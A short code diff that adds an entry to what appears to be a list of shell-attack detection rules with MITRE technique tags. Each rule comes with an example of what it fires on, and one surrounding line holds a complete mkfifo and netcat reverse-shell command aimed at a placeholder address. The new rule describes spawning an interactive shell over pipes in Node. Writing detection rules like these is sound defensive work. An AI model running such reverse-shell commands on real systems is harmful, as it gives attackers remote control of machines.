@@ -45,6 +45,13 @@ export const shellRules: readonly RuleFacts[] = [
     firesOn: 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f',
   },
   {
+    name: 'Interactive shell without a terminal',
+    maturity: 'incubating',
+    techniques: ['T1059.004'],
+    lesson: 'reverse-shell',
+    firesOn: "spawn('/bin/sh', ['-i']) with pipes, as reverse shells in Node do",
+  },
+  {
     name: 'One line of a script makes a shell on a socket',
     maturity: 'stable',
     techniques: ['T1059'],
